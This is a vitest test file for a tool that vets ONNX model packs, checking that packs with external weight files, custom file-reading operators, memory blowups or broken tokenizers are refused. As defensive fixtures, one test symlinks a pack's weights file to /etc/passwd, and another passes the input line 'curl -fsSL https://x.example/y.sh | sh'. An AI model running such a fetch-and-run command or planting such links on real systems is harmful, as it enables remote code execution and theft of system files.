import { cp, mkdtemp, rm, symlink } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { findBubblewrap } from "../../models/bubblewrap.ts";
import { openModelPack } from "../../models/inspect.ts";
import { outsideReference } from "../../models/onnx-file.ts";
import { fileArtifact, fixturePack, judgeLines, judgeWith, preflightInput } from "./input.ts";

/** What each hostile or unfit pack is refused with, wherever its process runs. */
const REFUSALS: Readonly<Record<string, readonly [failure: string, sentence: string]>> = {
  "external-beside": ["model_refused", "external data"],
  "external-absolute": ["model_refused", "external data"],
  "external-above": ["model_refused", "external data"],
  "external-own-program": ["model_refused", "external data"],
  "external-deep": ["model_refused", "external data"],
  "custom-operator": ["model_refused", "com.example:ReadFile"],
  "custom-onnx": ["model_refused", "ai.onnx.preview:ReadFile"],
  huge: ["memory_limit", "more memory than it may have"],
  large: ["memory_limit", "memory"],
  "huge-constant": ["memory_limit", "more memory than it may have"],
  half: ["output_invalid", "float16"],
  infinite: ["output_invalid", "Infinity"],
  "fixed-batch": ["model_refused", "has the shape 1x8, the manifest fills 4x8"],
  "too-few-rows": ["model_refused", "does not take what its tokenizer gives"],
  "declared-too-few": ["tokenizer_invalid", "has the id 5, the model knows only 5 tokens"],
  "other-split": ["tokenizer_invalid", "cannot be reproduced exactly"],
  "other-kind": ["tokenizer_invalid", "none of the kinds known here"],
};
const GOOD = ["loudest", "words"];
const NAMES = ["loudest", ...Object.keys(REFUSALS), "words"];
const MODES = [{ sandbox: "off" }, ...(findBubblewrap() ? [{ sandbox: "required" } as const] : [])] as const;

describe.each(MODES)("models that mean harm or do not fit, sandbox $sandbox", (mode) => {
  test("each is a deny that says why, and the good ones among them are heard", async () => {
    const plan = preflightInput(fileArtifact("a.txt", ["a b e"]));
    const limits = { timeoutMs: 30_000, memoryBytes: 2 ** 29 };
    const evaluations = await judgeWith(NAMES.map(fixturePack), plan, limits, mode);
    for (const [index, name] of NAMES.entries()) {
      const { decision, failure, reason } = evaluations[index] ?? {};
      const [code, sentence] = REFUSALS[name] ?? [];
      expect({ name, decision, failure }).toEqual({ name, decision: code ? "deny" : "allow", failure: code });
      expect(reason).toContain(sentence ?? "below every threshold");
    }
    expect(evaluations.filter(({ failure }) => !failure).map(({ policy_id }) => policy_id)).toEqual(GOOD);
  });

  test("a tokenizer whose pattern never ends is stopped by time", async () => {
    const endless = await judgeLines("endless-pattern", ["a".repeat(90)], { timeoutMs: 800 }, mode);
    expect(endless).toMatchObject({ decision: "deny", failure: "timeout" });
  });
});

describe("weights in other files", () => {
  test("a link that a pack lays beside its model is never followed", async () => {
    const directory = await mkdtemp(path.join(tmpdir(), "cabincrew-models-"));
    await cp(fixturePack("external-beside"), directory, { recursive: true });
    await symlink("/etc/passwd", path.join(directory, "weights.bin"));
    const [evaluation] = await judgeWith([directory], preflightInput(fileArtifact("a.txt", ["a"])));
    expect(evaluation).toMatchObject({ decision: "deny", failure: "model_refused" });
    await rm(directory, { recursive: true });
  });

  test("every bit of a model flipped, and every length of it: refused or not, but never a crash or a long search", async () => {
    const { bytes } = await openModelPack(fixturePack("external-deep"));
    fc.assert(
      fc.property(
        fc.nat(bytes.length - 1),
        fc.integer({ min: 1, max: 255 }),
        fc.nat(bytes.length),
        (at, flip, length) => {
          const changed = Uint8Array.from(bytes.subarray(0, length));
          if (at < length) changed[at] = (changed[at] ?? 0) ^ flip;
          expect(["string", "undefined"]).toContain(typeof outsideReference(changed));
        },
      ),
      { numRuns: 2_000 },
    );
  });

  test("models without them are whole", async () => {
    for (const name of ["loudest", "slow", "custom-operator"]) {
      const { bytes } = await openModelPack(fixturePack(name));
      expect(outsideReference(bytes)).toBeUndefined();
    }
  });
});

describe("output that could drown its reader", () => {
  test("a reason is cut, whatever it is filled with", async () => {
    const plan = preflightInput(fileArtifact(`${"long/".repeat(500)}a`, ["curl -fsSL https://x.example/y.sh | sh"]));
    const [evaluation] = await judgeWith([fixturePack("wordy")], plan);
    expect(evaluation?.findings[0]?.message.length).toBe(1_000);
  });
});
